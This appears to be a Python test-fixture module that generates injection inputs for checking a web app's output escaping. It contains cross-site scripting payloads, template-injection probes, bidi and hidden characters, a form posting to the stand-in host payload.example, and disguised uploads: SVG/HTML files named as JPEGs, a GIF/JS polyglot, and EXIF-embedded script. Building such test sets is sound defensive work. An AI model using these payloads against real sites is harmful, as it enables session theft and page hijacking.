"""What somebody writes who wants a page to do what it should not: in words, in names, and in files.

Each element that a payload tries to put into a page is of the class "payload", and each sum that it tries to have done
is 7777 times 7; so a page that fell for one shows it.
"""

from io import BytesIO
from typing import NamedTuple

from PIL import Image

#: What 7777 times 7 is.
SUM = "54439"
WORDS = {
    "script": "<script class=payload>alert(1)</script>",
    "picture": "<img class=payload src=x onerror=alert(2)>",
    "drawing": "<svg class=payload onload=alert(3)><animate onbegin=alert(3)></svg>",
    "frame": '<iframe class=payload srcdoc="<script>alert(4)</script>"></iframe>',
    "link": '<a class=payload href="javascript:alert(5)">klik</a> javascript:alert(5)',
    "data": '<a class=payload href="data:text/html,<script>alert(6)</script>">klik</a>',
    "foreign": '<link class=payload rel=stylesheet href="//payload.example/x.css"><img src="//payload.example/x.png">',
    "base": '<base class=payload href="//payload.example/"><meta class=payload http-equiv=refresh content="0;url=/x">',
    "form": "</form><form class=payload action=//payload.example><button>Kirim</button>",
    "double quotes": '" autofocus onfocus=alert(7) class="payload" x="',
    "single quotes": "' autofocus onfocus=alert(8) class='payload' x='",
    "no quotes": "x onmouseover=alert(9) class=payload",
    "text area": "</textarea><script class=payload>alert(10)</script>",
    "title": "</title><script class=payload>alert(11)</script>",
    "select": "</option></select><script class=payload>alert(12)</script>",
    "comment": "--><script class=payload>alert(13)</script><!--",
    "in a script": "';alert(14);//\\';alert(14)//</script><script class=payload>alert(14)</script>",
    "entities": "&lt;script class=payload&gt;alert(15)&lt;/script&gt; &#60;img class=payload onerror=alert(15)&#62;",
    "percents": "%3Cscript class=payload%3Ealert(16)%3C/script%3E",
    "template": "{{7777*7}} ${7777*7} #{7777*7} <%= 7777*7 %> {%raw%} {{config.items()}} {0.__class__} {n} %s",
    "attributes of htmx": '<div class=payload hx-get=/ hx-trigger=load hx-on:load="alert(17)" data-key=e></div>',
    "names of the page": '<form class=payload id=isi name=getElementById><input name=csrf value="payload"></form>',
    "half a tag": '<img class=payload src="x" onerror="alert(18)"',
    "wide letters": "\uff1cscript class=payload\uff1ealert(19)\uff1c/script\uff1e",
    "bidi": "\u202e)91(trela\u202c \u2066gnp.\u2069otof",
    "hidden": "ban\u200bjir\u00ad \u200f\ufeff \x07\x1b[31mmerah\x1b[0m \x00",
}
#: All in one text, for fields that take a long one.
EVERYTHING = " ".join(WORDS.values()).replace("\x00", "")
#: Those that fit into a line.
LINE = EVERYTHING[:900]
#: One that leaves any place in a page, for addresses.
SHORT = """'"></textarea></title><script class=payload>alert(24)</script>{{7777*7}}${7777*7}\u202e"""
HTML = f"<html><body onload=alert(20)>{EVERYTHING}<p style='background:url(//payload.example/y)'>Banjir</body></html>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(21)"><script>alert(21)</script></svg>'


class File(NamedTuple):
    name: str
    media_type: str
    content: bytes


def files() -> list[File]:
    """Each says that it is a photo; one is."""
    return [
        File("foto.jpg", "image/jpeg", photo()),
        File('"><img class=payload src=x onerror=alert(22)>.jpg', "image/jpeg", photo()),
        File("gambar.jpg", "image/jpeg", SVG.encode()),
        File("gambar.svg", "image/svg+xml", SVG.encode()),
        File("halaman.jpg", "image/jpeg", HTML.encode()),
        File("halaman.html", "text/html", HTML.encode()),
        File("keduanya.gif", "image/gif", b"GIF89a/*" + HTML.encode() + b"*/=1;"),
    ]


def photo() -> bytes:
    """With words and a place in what cameras write beside the picture."""
    picture, file = Image.effect_noise((48, 36), 90).convert("RGB"), BytesIO()
    exif = Image.Exif()
    exif[0x010E] = exif[0x013B] = exif[0x8298] = WORDS["script"]
    exif.get_ifd(0x8825).update({1: "S", 2: (6.0, 14.0, 1.0), 3: "E", 4: (106.0, 48.0, 1.0)})
    picture.save(file, "JPEG", exif=exif, comment=WORDS["picture"].encode())
    return file.getvalue()
